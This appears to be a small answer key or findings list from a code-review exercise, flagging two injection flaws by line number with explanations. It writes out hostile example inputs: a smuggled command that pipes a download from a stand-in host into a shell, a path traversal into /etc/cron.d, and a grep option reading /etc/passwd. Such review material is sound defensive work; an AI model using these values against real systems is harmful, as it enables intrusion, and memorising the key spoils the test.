[
    {"lines": (32, 34), "category": "injection",
     "why": "label goes into a shell=True command unquoted: 'q3; curl evil.sh | sh' runs a second command, "
            "and '../../etc/cron.d/x' writes outside /var/archive"},
    {"lines": (25, 25), "category": "injection",
     "why": "the search text is grep's next argument with no '--' and no -F: '-f/etc/passwd' or '--include=*' "
            "become options, and '.' is a regular expression that matches every file"},
]
